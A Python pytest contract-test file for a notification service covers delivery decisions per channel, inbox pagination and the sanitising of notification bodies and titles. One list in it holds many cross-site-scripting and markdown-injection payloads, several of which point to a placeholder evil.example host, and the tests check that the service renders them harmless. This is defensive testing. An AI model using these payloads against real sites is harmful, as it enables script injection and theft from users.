"""What the create calls mean (contract; REQ-001 to REQ-003), seen from outside."""

import asyncio
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from uuid import UUID, uuid4

import pytest

from tests.contract.callers import V1, Api, Json, assert_refused, content

SOON = timedelta(hours=1)
ITEM_FIELDS = {
    "id", "type", "priority", "title", "body", "body_html", "data", "read_at", "created_at",
    "expires_at", "delivery_status", "seq", "position",
}  # fmt: skip


@pytest.fixture
async def ada(api: Api) -> UUID:
    """A user with an address and no device."""
    return await api.new_user(email="ada@example.com")


async def decisions(api: Api, notification_id: str) -> dict[str, str]:
    """Each channel's decided action and reason."""
    (row,) = await api.rows(
        "SELECT outcomes FROM notification_decisions WHERE notification_id = :id",
        id=UUID(notification_id),
    )
    return {item["channel"]: f"{item['action']} {item['reason']}" for item in row.outcomes}


def instant(text: str) -> datetime:
    assert text.endswith("Z")
    return datetime.fromisoformat(text)


class TestAnswers:
    async def test_a_service_gets_id_status_channels_and_instant(self, api: Api, ada: UUID) -> None:
        before = datetime.now(UTC)
        created = await api.create(ada)
        assert set(created) == {"id", "status", "channels", "created_at", "masked"}
        assert UUID(created["id"])
        assert created["status"] == "queued"
        assert created["channels"] == ["in_app", "email"]
        assert before <= instant(created["created_at"]) <= datetime.now(UTC)

    async def test_an_internal_service_gets_id_and_status(self, api: Api, ada: UUID) -> None:
        body = content(user_id=ada, channels=["push", "in_app"])
        answer = await api.client.post(
            f"{V1}/internal/notifications/send", json=body, headers=api.internal("billing")
        )
        assert answer.status_code == 202
        told = answer.json()
        assert set(told) == {"notification_id", "status", "masked"}
        assert told["status"] == "queued"
        assert (await api.read(ada, f"/{told['notification_id']}"))["title"] == body["title"]
        rows = await api.rows(
            "SELECT service FROM notifications WHERE id = :id", id=UUID(told["notification_id"])
        )
        assert [row.service for row in rows] == ["billing"]

    async def test_the_requirements_own_example_is_taken(self, api: Api, ada: UUID) -> None:
        data = {
            "task_id": str(uuid4()),
            "action_url": "/tasks/uuid",
            "actions": [
                {"label": "View", "url": "/tasks/uuid", "primary": True},
                {"label": "Dismiss", "action": "dismiss"},
            ],
        }
        created = await api.create(ada, priority="high", data=data, template_id="task_assigned")
        assert (await api.read(ada, f"/{created['id']}"))["data"] == data


class TestDecisions:
    """No device: push is skipped in all of them."""

    @pytest.mark.parametrize(
        ("fields", "push", "email"),
        [
            ({"priority": "critical"}, "skip no_device", "send sent_now"),
            ({"priority": "high"}, "skip no_device", "digest digest"),
            ({"priority": "normal"}, "skip no_device", "digest digest"),
            ({"priority": "low"}, "skip priority_rule", "digest digest"),
            ({}, "skip no_device", "digest digest"),
            ({"type": "security"}, "skip no_device", "send sent_now"),
            ({"type": "security", "priority": "low"}, "skip priority_rule", "digest digest"),
            ({"priority": None}, "skip no_device", "digest digest"),
            ({"send_email": True}, "skip no_device", "send sent_now"),
            ({"send_email": True, "priority": "high"}, "skip no_device", "send sent_now"),
            ({"send_email": True, "priority": "low"}, "skip priority_rule", "digest digest"),
            ({"send_email": False}, "skip no_device", "skip not_requested"),
            ({"send_email": False, "priority": "critical"}, "skip no_device", "send sent_now"),
            ({"channels": ["in_app"]}, "skip not_requested", "skip not_requested"),
            ({"channels": ["push"]}, "skip no_device", "skip not_requested"),
            ({"channels": ["email"]}, "skip not_requested", "digest digest"),
            (
                {"channels": ["email"], "send_email": True},
                "skip not_requested",
                "send sent_now",
            ),
            (
                {"channels": ["in_app"], "send_email": True},
                "skip not_requested",
                "skip not_requested",
            ),
            (
                {"channels": ["in_app"], "priority": "critical"},
                "skip no_device",
                "send sent_now",
            ),
        ],
    )
    async def test_priority_and_request_decide_each_channel(
        self, api: Api, ada: UUID, fields: Json, push: str, email: str
    ) -> None:
        created = await api.create(ada, **fields)
        assert await decisions(api, created["id"]) == {
            "push": push,
            "in_app": "send sent_now",
            "email": email,
        }
        sent = [] if email.startswith("skip") else ["email"]
        assert created["channels"] == ["in_app", *sent]
        status = (await api.read(ada, f"/{created['id']}"))["delivery_status"]
        assert status == {"in_app": "delivered"} | dict.fromkeys(sent, "pending")

    async def test_channels_are_answered_in_one_order_whatever_is_asked(
        self, api: Api, ada: UUID
    ) -> None:
        for asked in (["email", "in_app", "push"], ["email", "email"], ["email"]):
            assert (await api.create(ada, channels=asked))["channels"] == ["in_app", "email"]

    async def test_email_needs_an_address(self, api: Api) -> None:
        user = await api.new_user(full_name="Ada")
        for priority in ("critical", "high", "normal", "low"):
            created = await api.create(user, priority=priority, send_email=True)
            assert created["channels"] == ["in_app"]
            assert (await decisions(api, created["id"]))["email"] == "skip no_address"

    async def test_an_address_counts_from_when_it_is_told_until_it_is_taken_back(
        self, api: Api
    ) -> None:
        user = await api.new_user()
        path, headers = f"{V1}/internal/users/{user}", api.internal()
        seen: list[list[str]] = []
        for email in (None, "ada@example.com", None):
            await api.client.put(path, json={"email": email}, headers=headers)
            seen.append((await api.create(user, priority="critical"))["channels"])
        assert seen == [["in_app"], ["in_app", "email"], ["in_app"]]

    async def test_a_digest_waits_for_nine_in_the_users_morning(self, api: Api) -> None:
        user = await api.new_user(email="emmy@example.com", timezone="Asia/Tokyo")
        created = await api.create(user)
        (row,) = await api.rows(
            "SELECT digest_slot FROM notification_deliveries"
            " WHERE notification_id = :id AND channel = 'email'",
            id=UUID(created["id"]),
        )
        now = instant(created["created_at"])
        assert now < row.digest_slot <= now + timedelta(days=1)
        assert row.digest_slot.astimezone(UTC).time().isoformat() == "00:00:00"


class TestVisibility:
    async def test_it_is_in_the_inbox_as_soon_as_it_is_answered(self, api: Api, ada: UUID) -> None:
        created = await api.create(
            ada, type="billing", priority="high", title="<b>Paid</b>", body="a *b*", data={"n": 1}
        )
        page = await api.read(ada)
        (listed,) = page["items"]
        assert set(page) == {"items", "unread_count", "next_cursor", "has_more", "seq"}
        assert (page["unread_count"], page["has_more"], page["next_cursor"]) == (1, False, None)
        assert set(listed) == ITEM_FIELDS
        assert listed | {"delivery_status": ..., "seq": ..., "position": ...} == {
            "id": created["id"],
            "type": "billing",
            "priority": "high",
            "title": "Paid",
            "body": "a *b*",
            "body_html": "<p>a <em>b</em></p>",
            "data": {"n": 1},
            "read_at": None,
            "created_at": created["created_at"],
            "expires_at": None,
            "delivery_status": ...,
            "seq": ...,
            "position": ...,
        }
        assert page["seq"] == listed["seq"]
        assert await api.read(ada, f"/{created['id']}") == listed
        assert await api.read(ada, "/unread-count") == {"count": 1, "by_type": {"billing": 1}}

    async def test_it_waits_as_sent_until_its_user_saw_it(self, api: Api, ada: UUID) -> None:
        created = await api.create(ada)
        query = "SELECT status FROM notification_deliveries WHERE notification_id = :id"
        in_app = f"{query} AND channel = 'in_app'"
        assert (await api.rows(in_app, id=UUID(created["id"])))[0].status == "sent"
        await api.read(ada)
        assert (await api.rows(in_app, id=UUID(created["id"])))[0].status == "delivered"

    async def test_pages_go_from_new_to_old(self, api: Api, ada: UUID) -> None:
        kinds = ["task", "system", "task", "security", "agent"]
        made = [(await api.create(ada, type=kind))["id"] for kind in kinds]
        seen: list[str] = []
        seqs: list[int] = []
        query = "?limit=2"
        while query:
            page = await api.read(ada, query)
            seen += [item["id"] for item in page["items"]]
            seqs += [item["seq"] for item in page["items"]]
            assert page["has_more"] == (page["next_cursor"] is not None)
            query = f"?limit=2&cursor={page['next_cursor']}" if page["has_more"] else ""
        assert seen == list(reversed(made))
        assert seqs == [5, 4, 3, 2, 1]
        assert await api.read(ada, "/unread-count") == {
            "count": 5,
            "by_type": {"task": 2, "system": 1, "security": 1, "agent": 1},
        }

    async def test_a_scheduled_one_is_nowhere_yet(self, api: Api, ada: UUID) -> None:
        send_at = datetime.now(UTC) + SOON
        created = await api.create(ada, send_at=send_at.isoformat(), send_email=True)
        assert (created["status"], created["channels"]) == ("scheduled", ["in_app", "email"])
        assert (await decisions(api, created["id"]))["in_app"] == "hold scheduled"
        assert await api.read(ada) == {
            "items": [],
            "unread_count": 0,
            "next_cursor": None,
            "has_more": False,
            "seq": 0,
        }
        assert (await api.read(ada, "/unread-count"))["count"] == 0
        answer = await api.client.get(f"{V1}/notifications/{created['id']}", headers=api.user(ada))
        assert_refused(answer, 404, "not_found")

    @pytest.mark.parametrize("route", ["/notifications", "/internal/notifications/send"])
    async def test_a_past_send_at_is_now(self, api: Api, ada: UUID, route: str) -> None:
        send_at = datetime.now(UTC) - SOON
        headers = api.service() | api.internal()
        body = content(user_id=ada, send_at=send_at.isoformat())
        answer = await api.client.post(f"{V1}{route}", json=body, headers=headers)
        assert answer.json()["status"] == "queued"
        assert (await api.read(ada))["unread_count"] == 1

    async def test_an_instant_may_have_any_offset(self, api: Api, ada: UUID) -> None:
        expires_at = (datetime.now(UTC) + SOON).replace(microsecond=0)
        local = expires_at.isoformat().replace("+00:00", "")
        for offset, hours in (("+05:30", 5.5), ("-11:00", -11), ("Z", 0)):
            moved = expires_at + timedelta(hours=hours) if offset != "Z" else expires_at
            text = moved.isoformat().replace("+00:00", "") + offset
            created = await api.create(ada, expires_at=text)
            told = (await api.read(ada, f"/{created['id']}"))["expires_at"]
            assert instant(told) == datetime.fromisoformat(f"{local}+00:00")

    async def test_creates_that_arrive_together_all_count_once(self, api: Api, ada: UUID) -> None:
        async def create(user: UUID, number: int) -> int:
            answer = await api.client.post(
                f"{V1}/notifications",
                json=content(user_id=user, title=str(number)),
                headers=api.service(),
            )
            return answer.status_code

        eve = await api.new_user()
        users = [(ada, eve, uuid4())[number % 3] for number in range(90)]
        statuses = await asyncio.gather(
            *(create(user, number) for number, user in enumerate(users))
        )
        assert statuses == [202, 202, 422] * 30
        for user in (ada, eve):
            page = await api.read(user, "?limit=100")
            assert page["unread_count"] == page["seq"] == 30
            assert [item["seq"] for item in page["items"]] == list(range(30, 0, -1))


class Tags(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str | None, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen += [(tag, None, None), *((tag, name, value) for name, value in attrs)]

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


HARMLESS = {
    "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onclick=alert(1) onmouseover=alert(1)>x</b>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror&gt;'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<base href='//evil.example/'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src='//evil.example'>",
    "<form action='//evil.example'><input name=password autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https://ok.example' target=_blank download ping='//evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,x)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "``` <script>\n<script>alert(1)</script>\n```",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
]


class TestSafety:
    @pytest.mark.parametrize("hostile", HOSTILE)
    async def test_html_of_a_body_is_safe_and_its_source_is_kept(
        self, api: Api, ada: UUID, hostile: str
    ) -> None:
        source = f"before\n\n{hostile}\n\nafter"
        created = await api.create(ada, body=source)
        item = await api.read(ada, f"/{created['id']}")
        assert item["body"] == source
        assert "before" in item["body_html"]
        tags = Tags()
        tags.feed(item["body_html"])
        tags.close()
        for tag, name, value in tags.seen:
            assert tag in HARMLESS
            assert name in {None, "href", "title", "rel", "start"}
            if name == "href":
                assert value is not None
                assert value.startswith("https://ok.example")

    @pytest.mark.parametrize("hostile", HOSTILE)
    async def test_a_title_is_text_and_never_a_tag(self, api: Api, ada: UUID, hostile: str) -> None:
        created = await api.create(ada, title=f"before {hostile} after")
        title = (await api.read(ada, f"/{created['id']}"))["title"]
        assert title.startswith("before")
        tags = Tags()
        tags.feed(title)
        tags.close()
        assert tags.seen == []

    @pytest.mark.parametrize(
        ("given", "stored"),
        [
            ("<b>Bold</b> &amp; plain", "Bold &amp; plain"),
            ("  1 < 2 & 3 > 2  ", "1 < 2 & 3 > 2"),
            ("<<b>i>x<</b>/i>", "x"),
            ("<b<b>>x", ">x"),
            ("Ünïcødé 🎉 \u2067שלום\u2069", "Ünïcødé 🎉 \u2067שלום\u2069"),
            ("\u202eRTL and \u2067open", "RTL and open"),
            ("two\r\n\tlines\x07", "two lines"),
            ("x <y@example.com>", "x"),
            ("I <3 you", "I <3 you"),
            ("{{ 7 * 7 }} ${7*7} %s", "{{ 7 * 7 }} ${7*7} %s"),
        ],
    )
    async def test_a_title_loses_its_tags_and_nothing_else(
        self, api: Api, ada: UUID, given: str, stored: str
    ) -> None:
        created = await api.create(ada, title=given)
        assert (await api.read(ada, f"/{created['id']}"))["title"] == stored

    @pytest.mark.parametrize(
        "data",
        [
            {"": ""},
            {"a": [1, -1, 0.1, 1e300, 2**53, 2**63 - 1, True, False, None, ""]},
            {"a": [[1], {"b": {"c": [[2]]}}]},
            {"ключ": "значение", "🎉": "\u202e", "quote": "\"'\\/\b\f\n\r\t\x01\x7f"},
            {"<script>": "<script>alert(1)</script>"},
            {"__proto__": {"constructor": 1}, "id": "not yours", "user_id": "not yours"},
        ],
    )
    async def test_data_come_back_as_they_were_sent(self, api: Api, ada: UUID, data: Json) -> None:
        created = await api.create(ada, data=data)
        assert (await api.read(ada, f"/{created['id']}"))["data"] == data


class TestUsers:
    async def test_what_is_sent_is_stored_null_clears_and_the_rest_stays(self, api: Api) -> None:
        user = uuid4()

        async def put(**fields: Any) -> Json:
            answer = await api.client.put(
                f"{V1}/internal/users/{user}", json=fields, headers=api.internal()
            )
            assert answer.status_code == 200
            return answer.json()

        nothing: Json = dict.fromkeys(("email", "full_name", "timezone", "locale"))
        known: Json = {"id": str(user), "attributes": {}, **nothing}
        assert await put() == known
        for fields in (
            {"email": "ada@example.com", "attributes": {"plan": "pro"}},
            {"full_name": "Ada Lovelace", "timezone": "Europe/London"},
            {"locale": "de-AT", "email": None},
            {"attributes": {"team": [1, 2]}},
            {"full_name": None, "timezone": None},
        ):
            known |= fields
            assert await put(**fields) == known
        known |= {"attributes": {}}
        assert await put(attributes=None) == known
        assert await put() == known
